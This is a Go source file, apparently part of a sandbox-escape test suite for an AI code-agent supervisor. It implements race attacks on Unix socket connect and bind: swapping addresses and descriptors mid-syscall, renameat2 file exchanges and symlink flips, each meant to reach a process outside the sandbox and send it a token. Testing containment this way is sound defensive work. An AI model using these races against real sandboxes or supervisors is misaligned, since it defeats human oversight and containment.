//go:build linux

package escapes

import (
	"os"
	"runtime"
	"sync/atomic"
	"unsafe"

	"codeagent/internal/attack"

	"golang.org/x/sys/unix"
)

// reachedOther reports whether a connected socket leads to a process other than this one, and sends
// the token there.
func reachedOther(sock int, token []byte) bool {
	peer, err := unix.GetsockoptUcred(sock, unix.SOL_SOCKET, unix.SO_PEERCRED)
	if err != nil || int(peer.Pid) == os.Getpid() {
		return false
	}
	_, err = unix.Write(sock, token)
	return err == nil
}

// swapped runs change repeatedly on its own thread until it is stopped.
func swapped(change func()) (stop func()) {
	var end atomic.Bool
	done := make(chan struct{})
	go func() {
		defer close(done)
		runtime.LockOSThread()
		for !end.Load() {
			change()
		}
	}()
	return func() { end.Store(true); <-done }
}

// sockaddr is an encoded address of the maximal length.
type sockaddr [unix.SizeofSockaddrUnix]byte

func unixSockaddr(path string) (a sockaddr) {
	*(*uint16)(unsafe.Pointer(&a)) = unix.AF_UNIX
	copy(a[2:], path)
	return a
}

func inetSockaddr(port int) (a sockaddr) {
	*(*uint16)(unsafe.Pointer(&a)) = unix.AF_INET
	a[2], a[3] = byte(port>>8), byte(port)
	copy(a[4:], []byte{127, 0, 0, 1})
	return a
}

// trying is one way to race: try reports whether it was won; done restores the state.
type trying struct {
	try  func() bool
	done func()
}

// socketRaces succeed against a supervisor that examines a connect and then lets it proceed, or
// that remembers sockets by their names.
func socketRaces() []attempt {
	race := func(name string, service func(p place) string, begin func(p place, service string, token []byte) trying) attempt {
		a := reaches("race: "+name, "E37", services, func(p place, t []byte) error {
			server, err := attack.OwnServer(p.in + "/s")
			if err != nil {
				return err
			}
			defer unix.Close(server)
			race := begin(p, service(p), t)
			defer race.done()
			landed := false
			return until(p, func(p place) error { landed = landed || race.try(); return nil }, func(place) bool { return landed })
		})
		a.race, a.before = true, func(h *host, p place) { h.serve("unix", service(p)) }
		return a
	}
	outside := func(p place) string { return p.out + "/s" }
	inside := func(p place) string { return p.in + "/service" }
	return []attempt{
		race("connect, its address changes", outside, func(p place, service string, t []byte) trying {
			return connectChanging(unixSockaddr(p.in+"/s"), unixSockaddr(service), t)
		}),
		race("connect, its socket and address become another family's", outside, func(p place, service string, t []byte) trying {
			return connectChanging(inetSockaddr(p.TCP), unixSockaddr(service), t)
		}),
		race("connect, the file becomes a symlink", outside, func(p place, service string, t []byte) trying {
			_ = os.Symlink(service, p.in+"/l")
			return connectFlipping(p.in+"/s", p.in+"/l", t)
		}),
		race("connect, the file becomes a service's", inside, func(p place, service string, t []byte) trying {
			return connectFlipping(p.in+"/s", service, t)
		}),
		race("bind, a service's file takes its name", inside, func(p place, service string, t []byte) trying {
			return trying{func() bool { return bindSwapped(p.in+"/new", service, t) }, func() {}}
		}),
	}
}

func connects(path string, token []byte) bool {
	sock, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return false
	}
	defer unix.Close(sock)
	return unix.Connect(sock, &unix.SockaddrUnix{Name: path}) == nil && reachedOther(sock, token)
}

// connectFlipping connects to a name while that name is exchanged with another one.
func connectFlipping(name, other string, token []byte) trying {
	flips := 0
	stop := swapped(func() {
		if exchange(name, other) == nil {
			flips++
		}
	})
	return trying{func() bool { return connects(name, token) }, func() {
		stop()
		if flips%2 != 0 {
			_ = exchange(name, other)
		}
	}}
}

func exchange(a, b string) error {
	return unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE)
}

// connectChanging connects while a thread switches the address in memory, and the socket behind its
// descriptor.
func connectChanging(own, other sockaddr, token []byte) trying {
	family := func(a *sockaddr) int { return int(*(*uint16)(unsafe.Pointer(a))) }
	try := func() bool {
		second, err := unix.Socket(family(&other), unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return false
		}
		defer unix.Close(second)
		first, err := unix.Socket(family(&own), unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err != nil { // no network: only the address changes
			first, err = unix.Dup(second)
		}
		if err != nil {
			return false
		}
		defer unix.Close(first)
		fd, err := unix.Dup(first)
		if err != nil {
			return false
		}
		defer unix.Close(fd)
		addr := own
		stop := swapped(func() {
			addr = other
			_ = unix.Dup3(second, fd, unix.O_CLOEXEC)
			addr = own
			_ = unix.Dup3(first, fd, unix.O_CLOEXEC)
		})
		for range 256 {
			_, _, errno := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(&addr)), unsafe.Sizeof(addr))
			if errno == 0 || errno == unix.EISCONN {
				break
			}
		}
		stop()
		return reachedOther(first, token) || reachedOther(second, token)
	}
	return trying{try, func() {}}
}

// bindSwapped binds a socket and connects to its name. Meanwhile a thread puts a service's file
// under that name as soon as it exists.
func bindSwapped(name, service string, token []byte) bool {
	var there atomic.Bool
	stop := swapped(func() {
		if !there.Load() && exchange(service, name) == nil {
			there.Store(true)
		}
	})
	sock, err := attack.OwnServer(name)
	for err == nil && !there.Load() {
		runtime.Gosched()
	}
	stop()
	if err != nil {
		return false
	}
	defer unix.Close(sock)
	won := connects(name, token)
	_ = exchange(service, name)
	_ = unix.Unlink(name)
	return won
}
